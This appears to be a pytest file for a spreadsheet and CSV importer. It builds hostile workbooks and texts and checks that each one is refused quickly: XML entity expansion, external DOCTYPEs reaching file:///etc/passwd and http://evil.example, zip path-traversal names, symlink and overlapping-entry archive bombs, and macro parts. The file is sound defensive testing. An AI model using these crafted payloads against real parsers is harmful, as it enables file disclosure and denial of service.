"""Workbooks and texts made to do harm: each is refused, at once, and the harmless twin is read."""

import io
import random
import time
import zipfile
from collections.abc import Callable

import pytest

from points.flows.import_.files import extent
from points.flows.import_.files.extent import Extent
from points.flows.import_.files.opening import open_file
from points.flows.import_.files.tables import Unreadable
from tests.unit.import_.samples import DEMO, workbook

SHEET = "xl/worksheets/sheet1.xml"
Change = Callable[[bytes], bytes]
SECONDS_MAX = 10
"""Generous: a machine may be busy. What is refused here took minutes, or the whole process."""


def parts() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(workbook({"甲": [["姓名"], ["张三"]]}))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(changed: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (parts() | changed).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def sheet(more: bytes, after: bytes = b"") -> bytes:
    old = parts()[SHEET]
    return packed({SHEET: old.replace(b"</sheetData>", more + b"</sheetData>" + after)})


def outcome(content: bytes) -> str:
    began = time.monotonic()
    try:
        opened = open_file(content, ("xlsx", "csv", "jsonl"), ("utf-8-sig", "gb18030"))
        found = str(sum(len(list(table.rows)) for table in opened.tables))
    except Unreadable as unreadable:
        found = unreadable.code
    assert time.monotonic() - began < SECONDS_MAX
    return found


FAR = b'r="XFD1048576"'
CORNERS = {
    "many blanks": b'<row r="1048576"><c' + b" " * 70 + FAR + b"><v>1</v></c></row>",
    "a decoy": b'<row r="1048576"><c x-r="A1" ' + FAR + b"><v>1</v></c></row>",
    "a decoy in quotes": b'<row r="1048576"><c x=\' r="A1"\' ' + FAR + b"><v>1</v></c></row>",
    "a quoted end": b'<row r="1048576"><c x=">" ' + FAR + b"><v>1</v></c></row>",
    "a quoted beginning": b'<row r="1048576"><c x="<" ' + FAR + b"><v>1</v></c></row>",
    "twice": b'<row r="9"><c r="A9" ' + FAR + b"><v>1</v></c></row>",
    "other quotes": b"<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>",
    "blanks around": b'<row r="1048576"><c r = "XFD1048576" ><v>1</v></c></row>',
    "a line break": b'<row r="1048576"><c\n' + FAR + b"><v>1</v></c></row>",
    "another prefix": b'<x-1:row r="1048576"><x-1:c ' + FAR + b"><v>1</v></x-1:c></x-1:row>",
    "an entity": b'<row r="1048576"><c r="&#88;FD1048576"><v>1</v></c></row>',
    "no address": b'<row r="3">'
    + b"<c><v>1</v></c>" * 16_000
    + b'</row><row r="1048576"><c/></row>',
    "no row's number": b"<row>" * 300_000 + b'<c r="ZZ300000"/>' + b"</row>" * 300_000,
    "many at one place": b'<row r="3">' + b'<c r="A3"/>' * 4_100_000 + b"</row>",
}


@pytest.mark.parametrize("name", CORNERS)
def test_no_spelling_hides_the_far_corner(name: str) -> None:
    assert outcome(sheet(CORNERS[name])) in {
        "sheet.too_wide",
        "sheet.unreadable",
        "sheet.archive_bomb",
    }


def test_a_worksheet_may_not_hide_under_another_name() -> None:
    relations = parts()["xl/_rels/workbook.xml.rels"].replace(b"worksheets/sheet1", b"elsewhere/s")
    far = parts()[SHEET].replace(b"</sheetData>", CORNERS["a line break"] + b"</sheetData>")
    content = packed({"xl/_rels/workbook.xml.rels": relations, "xl/elsewhere/s.xml": far})
    assert outcome(content) == "sheet.too_wide"
    relations = parts()["xl/_rels/workbook.xml.rels"].replace(
        b"worksheets/sheet1.xml", b"media/a.png"
    )
    assert (
        outcome(packed({"xl/_rels/workbook.xml.rels": relations, "xl/media/a.png": far}))
        == "sheet.unreadable"
    )
    relations = relations.replace(b".png", b"&#46;png")
    assert (
        outcome(packed({"xl/_rels/workbook.xml.rels": relations, "xl/media/a.png": far}))
        == "sheet.unreadable"
    )


def test_a_picture_is_no_reason_to_refuse() -> None:
    noise = random.Random(1).randbytes(500_000)
    assert outcome(packed({"xl/media/image1.png": noise + b"<a" + bytes(200_000)})) == "2"


def test_tags_and_texts_without_end() -> None:
    assert outcome(sheet(b"<c" + b" " * 200_000 + FAR + b"/>")) == "sheet.too_wide"
    assert outcome(sheet(b"<" + b"p" * 2_000_000 + b":c " + FAR + b"/>")) in {
        "sheet.unreadable",
        "sheet.too_wide",
    }
    assert outcome(sheet(b"<x>" + b"a" * 9_000_000 + b"</x>")) == "sheet.unreadable"
    long = b'<row r="3"><c r="A3" t="inlineStr"><is><t>' + b"a" * 90_000 + b"</t></is></c></row>"
    assert outcome(sheet(long)) == "3"


def test_one_long_text_on_many_cells_is_not_copied() -> None:
    texts = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>%s</t></si><si><t>b</t></si><si><t>c</t></si></sst>'
    cells = b"".join(
        b'<row r="%d">' % row + b"".join(b'<c r="%c%d" t="s"><v>0</v></c>' % (65 + n, row) for n in range(20)) + b"</row>"
        for row in range(3, 5_000)
    )  # fmt: skip
    old = parts()[SHEET].replace(b"</sheetData>", cells + b"</sheetData>")
    assert (
        outcome(packed({SHEET: old, "xl/sharedStrings.xml": texts % (b"a" * 32_000)}))
        == "sheet.archive_bomb"
    )
    assert outcome(packed({SHEET: old, "xl/sharedStrings.xml": texts % b"abc"})) == "4999"


def test_merges_are_counted_before_they_are_laid_out() -> None:
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(3, 20_000))
    many = b"<mergeCells>" + b'<mergeCell ref="A1:A20000"/>' * 10_000 + b"</mergeCells>"
    assert outcome(sheet(rows, many)) == "sheet.too_wide"
    assert outcome(sheet(b"", b'<mergeCells><mergeCell ref="Z1:Z2"/></mergeCells>')) == "2"
    assert (
        outcome(
            sheet(b"", b"<mergeCells>" + b'<mergeCell ref="A1:A1"/>' * 30_000 + b"</mergeCells>")
        )
        == "sheet.too_wide"
    )


@pytest.mark.parametrize(
    "declared",
    [
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE x SYSTEM "file:///etc/passwd">',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>',
    ],
)
def test_document_types_are_refused(declared: bytes) -> None:
    hidden = [
        (SHEET, b"<worksheet"),
        ("xl/workbook.xml", b"<workbook"),
        ("[Content_Types].xml", b"<Types"),
    ]
    for name, tag in hidden:
        content = packed({name: parts()[name].replace(tag, declared + tag, 1)})
        assert outcome(content) == "sheet.unreadable"
    wide = parts()[SHEET].decode().replace("UTF-8", "UTF-16").encode("utf-16")
    assert outcome(packed({SHEET: wide})) == "sheet.unreadable"
    far_down = b"<!--" + b" " * (1 << 20) + b"-->" + declared
    content = packed({SHEET: parts()[SHEET].replace(b"<worksheet", far_down + b"<worksheet", 1)})
    assert outcome(content) == "sheet.unreadable"


@pytest.mark.parametrize(
    "name", ["xl/vbaProject.bin", "xl/activeX/a.xml", "xl/macrosheets/sheet1.xml"]
)
def test_macros_are_refused(name: str) -> None:
    assert outcome(packed({name: b"x"})) == "sheet.macros"


def test_a_macro_workbook_under_a_plain_name_is_refused() -> None:
    types = parts()["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    assert outcome(packed({"[Content_Types].xml": types})) == "sheet.macros"


@pytest.mark.parametrize(
    "name",
    [
        *("../evil.xml", "xl/../../evil.xml", "/etc/passwd", "C:/x.xml", "xl\\evil.xml", "xl/a:b"),
        *("content.xml", "mimetype", "xl/a\x01b.xml", "xl//x.xml", "xl/./x.xml", "payload.exe"),
    ],
)
def test_names_that_lead_elsewhere_are_refused(name: str) -> None:
    assert outcome(packed({name: b"x"})) == "sheet.unreadable"


def test_a_part_that_stands_twice_is_refused() -> None:
    buffer = io.BytesIO(packed({}))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("XL/WorkSheets/Sheet1.xml".replace("XL", "xl"), b"<worksheet/>")
    assert outcome(buffer.getvalue()) == "sheet.unreadable"


def test_a_link_is_refused() -> None:
    buffer = io.BytesIO(packed({}))
    link = zipfile.ZipInfo("xl/link.xml")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    assert outcome(buffer.getvalue()) == "sheet.unreadable"


def test_an_encrypted_part_is_refused() -> None:
    content = bytearray(packed({}))
    at = content.rindex(b"PK\x01\x02")
    content[at + 8] |= 1
    assert outcome(bytes(content)) == "sheet.unreadable"


def test_two_files_in_one_are_refused() -> None:
    book = packed({})
    assert outcome(book) == "2"
    assert outcome(book + b"\n%PDF-1.7") == "sheet.unreadable"
    assert outcome(book + book) != "2"
    assert outcome(b"PK\x03\x04junk" + book) in {"sheet.archive_bomb", "sheet.unreadable"}
    commented = io.BytesIO(book)
    with zipfile.ZipFile(commented, "a") as archive:
        archive.comment = b"PK\x05\x06" + bytes(18)
    assert outcome(commented.getvalue()) in {"sheet.unreadable", "sheet.wrong_format"}


def test_entries_that_overlap_are_refused() -> None:
    # Each entry of the directory points at the same bytes, as in the bombs of 2019.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts().items():
            archive.writestr(name, data)
        first = archive.filelist[0]
        for number in range(50):
            again = zipfile.ZipInfo(f"xl/media/{number}.bin")
            for slot in (
                "header_offset",
                "CRC",
                "compress_size",
                "file_size",
                "compress_type",
                "flag_bits",
            ):
                setattr(again, slot, getattr(first, slot))
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
        archive._didModify = True
    assert outcome(buffer.getvalue()) in {"sheet.archive_bomb", "sheet.unreadable"}


def test_an_archive_in_an_archive_stays_packed() -> None:
    inner = packed({"xl/media/zeros.bin": bytes(9_000_000)})
    for _ in range(3):
        inner = packed({"xl/media/inner.zip": inner})
    assert outcome(inner) == "2"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"\n" * 20_000_000, "sheet.too_many_rows"),
        (b"\r" * 20_000_000, "sheet.too_many_rows"),
        (b"{}\n" * 5_000_000, "sheet.too_many_rows"),
        (b'a,b\n"' + b"x" * 20_000_000, "sheet.bad_csv"),
        (b"a" * 20_000_000, "sheet.bad_csv"),
        (b"a,b\n1,\x002\n", "sheet.bad_encoding"),
        (b"{" * 30_000, "1"),
    ],
)
def test_texts_made_to_do_harm(content: bytes, code: str) -> None:
    assert outcome(content) in {code, "2"} if code == "1" else outcome(content) == code


@pytest.mark.parametrize("path", sorted(DEMO.glob("*.xlsx")), ids=lambda path: path.stem)
def test_control_real_workbooks_are_read(path: object) -> None:
    assert outcome(path.read_bytes()).isdecimal()  # type: ignore[attr-defined]


def cells_of(xml: bytes, piece: int) -> tuple[int, int, set[tuple[int, int]]]:
    found = Extent()
    for at in range(0, len(xml), piece):
        found.take(xml[at : at + piece])
    found.finish()
    return found.area, found.texts, found.failed


@pytest.mark.parametrize("piece", [1, 7, 64, 100_000])
def test_both_ways_of_counting_agree(piece: int) -> None:
    usual = (
        b'<row r="1"><c r="A1" s="1" t="s"><v>0</v></c><c r="C1"/></row>'
        b'<row r="9"><c s="2" r="B9" t="e"><v>#N/A</v></c></row>'
    )
    odd = usual.replace(b'r="C1"', b"r='C1'")
    bare = usual.replace(b' r="A1"', b"")
    for xml in (usual, odd, bare):
        assert cells_of(xml, piece) == (27, 1, {(9, 2)})


def test_control_the_limit_is_what_refuses(monkeypatch: pytest.MonkeyPatch) -> None:
    small = b'<row r="30"><c x="1" r="Z30"><v>1</v></c></row>'
    assert outcome(sheet(small)) == "30"
    monkeypatch.setattr(extent, "AREA_CELLS_MAX", 26 * 30 - 1)
    assert outcome(sheet(small)) == "sheet.too_wide"
